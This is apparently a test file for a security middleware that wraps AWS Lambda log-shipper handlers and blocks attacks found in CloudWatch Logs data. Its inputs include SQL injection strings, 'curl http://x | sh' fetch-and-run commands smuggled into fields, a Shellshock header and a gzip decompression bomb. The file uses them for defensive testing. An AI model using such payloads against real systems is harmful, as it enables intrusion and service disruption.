import t from 'tap';
import { gzipSync } from 'node:zlib';
import type { Context } from 'aws-lambda';
import { protect, RequestBlockedError, type SecurityEvent } from '../../../adapters/aws-lambda/index';
import { normalize } from '../../../adapters/aws-lambda/normalize';
import { createEngine } from '../../../src/engine';
import { lambdaContext } from '../../helpers/lambda-events';
import { ATTACKS, BENIGN } from '../../helpers/tables';
import { b64, cloudWatchLogs, cloudWatchLogsDocument, cloudWatchLogsRaw } from './events';

type Any = any;

function recorder() {
  const calls: Any[] = [];
  const handler = async (event: Any, _context: Context) => {
    calls.push(event);
    return 'shipped';
  };
  return { calls, handler };
}

function logs() {
  const lines: SecurityEvent[] = [];
  return { lines, log: (line: string) => lines.push(JSON.parse(line) as SecurityEvent) };
}

const ctx = () => lambdaContext({ functionName: 'log-shipper' });
const accessLine = (q: string) => `198.51.100.23 - - [01/May/2024:12:00:00 +0000] "GET /search HTTP/1.1" 200 512 q=${JSON.stringify(q)}`;

t.test('CloudWatch Logs: the payload goes to the engine as base64 gzip JSON, read message by message', async (t) => {
  const event = cloudWatchLogs(['START RequestId: 1', JSON.stringify({ level: 'info', msg: 'ok' }), "END q=x' OR '1'='1"]);
  const n = normalize(event);
  t.equal(n.kind, 'batch');
  t.equal(n.trigger, 'cloudwatch-logs');
  if (n.kind !== 'batch') return;
  t.equal(n.answer, 'throw');
  t.equal(n.records.length, 1, 'a subscription answers as a whole');
  const src = n.records[0]!.request.sources[0]!;
  t.match(src, { path: 'awslogs.data', base64: true, contentEncoding: 'gzip', decoding: 'auto' });
  // The engine inflates it and names the log event.
  const v = createEngine().inspect(n.records[0]!.request);
  t.same(v.findings.map((f) => f.path), ['awslogs.data.logEvents[2].message']);
});

t.test('CloudWatch Logs: benign log lines reach the handler unchanged', async (t) => {
  const { calls, handler } = recorder();
  const { lines, log } = logs();
  const wrapped = protect(handler, { log });
  for (const text of BENIGN) {
    const event = cloudWatchLogs([accessLine(text), JSON.stringify({ level: 'info', note: text }), `INFO order placed by ${text}`]);
    const snapshot = JSON.stringify(event);
    t.equal(await wrapped(event, ctx()), 'shipped', `"${text}"`);
    t.equal(calls[calls.length - 1], event, 'the very same event');
    t.equal(JSON.stringify(event), snapshot, 'not modified');
  }
  t.equal(lines.length, 0);
});

t.test('CloudWatch Logs: an attack in a log message is blocked, the path names the log event', async (t) => {
  for (const a of ATTACKS) {
    const { calls, handler } = recorder();
    const { lines, log } = logs();
    const wrapped = protect(handler, { log });
    const event = cloudWatchLogs(['START RequestId: 7', JSON.stringify({ level: 'warn', user: { name: a.payload } }), 'END RequestId: 7']);
    const err = await wrapped(event, ctx()).catch((e: unknown) => e);
    t.ok(err instanceof RequestBlockedError && err.code === 'RASP_ERR_BLOCKED', `${a.class}: ${a.payload}`);
    t.equal(calls.length, 0);
    t.equal(lines[0]?.trigger, 'cloudwatch-logs');
    t.equal(lines[0]?.where?.startsWith('awslogs.data.logEvents[1].message'), true, String(lines[0]?.where));
  }
});

t.test('CloudWatch Logs: exact paths for SQL in a text line and a shell command in a JSON line', async (t) => {
  const { lines, log } = logs();
  const wrapped = protect(recorder().handler, { log });
  await t.rejects(wrapped(cloudWatchLogs(['ok', "lookup user=' UNION SELECT password FROM users --"]), ctx()), RequestBlockedError);
  await t.rejects(wrapped(cloudWatchLogs([JSON.stringify({ file: 'report.csv; curl http://x | sh' })]), ctx()), RequestBlockedError);
  t.same(
    lines.map((l) => [l.where, l.class]),
    [
      ['awslogs.data.logEvents[1].message', 'sqli'],
      ['awslogs.data.logEvents[0].message.file', 'shell'],
    ],
  );
});

t.test('CloudWatch Logs: monitor mode passes the batch and logs', async (t) => {
  const { calls, handler } = recorder();
  const { lines, log } = logs();
  const wrapped = protect(handler, { mode: 'monitor', log });
  const event = cloudWatchLogs(['ok', '; curl http://x | sh']);
  t.equal(await wrapped(event, ctx()), 'shipped');
  t.equal(calls[0], event);
  t.same(
    lines.map((l) => [l.action, l.trigger, l.where]),
    [['monitor', 'cloudwatch-logs', 'awslogs.data.logEvents[1].message']],
  );
});

t.test('CloudWatch Logs: a decompression bomb is a limits finding, never a crash or an unbounded buffer', async (t) => {
  const { calls, handler } = recorder();
  const { lines, log } = logs();
  const wrapped = protect(handler, { log });
  // 64 MiB of log text compresses to about 64 KiB; the default limit is 8 MiB.
  const huge = JSON.stringify(cloudWatchLogsDocument(['x'.repeat(64 * 1024 * 1024)]));
  const bomb = cloudWatchLogsRaw(gzipSync(huge).toString('base64'));
  t.ok(bomb.awslogs.data.length < 200_000, 'the event itself is small');
  const before = process.memoryUsage().arrayBuffers;
  const err = await wrapped(bomb, ctx()).catch((e: unknown) => e);
  t.ok(err instanceof RequestBlockedError, 'blocked, as an oversized body is');
  t.equal(calls.length, 0);
  t.same(
    lines.map((l) => [l.action, l.rule, l.class, l.where]),
    [['block', 'limits.bytes', 'limits', 'awslogs.data']],
  );
  t.ok(process.memoryUsage().arrayBuffers - before < 32 * 1024 * 1024, 'never decompressed past the limit');

  // The bound is the engine's limits.maxBytes.
  const small = protect(handler, { log, limits: { maxBytes: 1024 } });
  await t.rejects(small(cloudWatchLogs(['y'.repeat(2048)]), ctx()), RequestBlockedError, 'a 2 KiB payload over a 1 KiB limit');
  t.equal(lines[1]?.rule, 'limits.bytes');
  t.equal(await small(cloudWatchLogs(['short line']), ctx()), 'shipped', 'under the limit');

  // Monitor mode: logged, the handler runs (it meets the same bomb with its own gunzip).
  const monitor = protect(handler, { log, mode: 'monitor' });
  t.equal(await monitor(bomb, ctx()), 'shipped');
  t.equal(lines[2]?.action, 'monitor');
  t.equal(lines[2]?.rule, 'limits.bytes');
  // Excluded like any finding.
  const excluded = protect(handler, { log: false, exclusions: [{ path: 'awslogs.data', rules: ['limits.bytes'] }] });
  t.equal(await excluded(bomb, ctx()), 'shipped');
});

t.test('CloudWatch Logs: data that is not base64 of gzip of JSON never crashes and is inspected as it is', async (t) => {
  const { calls, handler } = recorder();
  const { lines, log } = logs();
  const wrapped = protect(handler, { log });
  // Not base64 at all.
  t.equal(await wrapped(cloudWatchLogsRaw('%%% not base64 %%%'), ctx()), 'shipped', 'bad base64');
  // Base64, but not gzip: what it decodes to is inspected (here, a plain attack).
  t.equal(await wrapped(cloudWatchLogsRaw(b64('plain text, not gzip')), ctx()), 'shipped', 'bad gzip, benign');
  await t.rejects(wrapped(cloudWatchLogsRaw(b64('x; curl http://x | sh')), ctx()), RequestBlockedError, 'bad gzip hiding a command');
  t.equal(lines[lines.length - 1]?.where, 'awslogs.data');
  // Gzip cut short (a truncated upload).
  const whole = gzipSync(JSON.stringify(cloudWatchLogsDocument(['ok'])));
  t.equal(await wrapped(cloudWatchLogsRaw(whole.subarray(0, whole.length - 12).toString('base64')), ctx()), 'shipped', 'truncated gzip');
  // Gzip of something that is not JSON, or JSON without logEvents.
  await t.rejects(wrapped(cloudWatchLogsRaw(gzipSync("name=' UNION SELECT password FROM users --").toString('base64')), ctx()), RequestBlockedError, 'gzip of text');
  t.equal(lines[lines.length - 1]?.where, 'awslogs.data');
  await t.rejects(wrapped(cloudWatchLogsRaw(gzipSync(JSON.stringify({ messageType: 'DATA_MESSAGE', events: ['$(id)'] })).toString('base64')), ctx()), RequestBlockedError, 'JSON without logEvents');
  t.equal(lines[lines.length - 1]?.where, 'awslogs.data.events[0]');
  t.equal(await wrapped(cloudWatchLogsRaw(gzipSync('').toString('base64')), ctx()), 'shipped', 'empty gzip');
  // Odd shapes.
  t.equal(await wrapped({ awslogs: { data: 42 } } as Any, ctx()), 'shipped', 'data not a string');
  t.equal(await wrapped({ awslogs: {} } as Any, ctx()), 'shipped', 'no data');
  const odd = gzipSync(JSON.stringify({ ...cloudWatchLogsDocument([]), logEvents: [null, 'str', { id: 'x' }, { message: 42 }] })).toString('base64');
  t.equal(await wrapped(cloudWatchLogsRaw(odd), ctx()), 'shipped', 'odd log events');
  t.equal(calls.length, 7, 'the handler ran for each benign malformed payload');
  t.equal(lines.filter((l) => l.action === 'error').length, 0, 'no internal error');
});

t.test('CloudWatch Logs: the control message sent when a subscription is created passes', async (t) => {
  const { calls, handler } = recorder();
  const wrapped = protect(handler, { log: false });
  const doc = { ...cloudWatchLogsDocument(['CWL CONTROL MESSAGE: Checking health of destination Firehose.']), messageType: 'CONTROL_MESSAGE', logGroup: '', logStream: '', subscriptionFilters: [] };
  t.equal(await wrapped(cloudWatchLogsRaw(gzipSync(JSON.stringify(doc)).toString('base64')), ctx()), 'shipped');
  t.equal(calls.length, 1);
});

t.test('CloudWatch Logs: the exclusion the README suggests for log shippers lets every log line through, not a bomb', async (t) => {
  const { calls, handler } = recorder();
  const { lines, log } = logs();
  const wrapped = protect(handler, { log, exclusions: [{ path: 'awslogs.data.logEvents[*].message.**' }] });
  t.equal(await wrapped(cloudWatchLogs(["GET /?id=1' OR '1'='1", JSON.stringify({ ua: '() { :; }; /bin/bash -c "curl http://x | sh"' })]), ctx()), 'shipped');
  t.equal(calls.length, 1);
  const bomb = cloudWatchLogsRaw(gzipSync('x'.repeat(9 * 1024 * 1024)).toString('base64'));
  await t.rejects(wrapped(bomb, ctx()), RequestBlockedError);
  t.same(
    lines.map((l) => l.rule),
    ['limits.bytes'],
  );
});
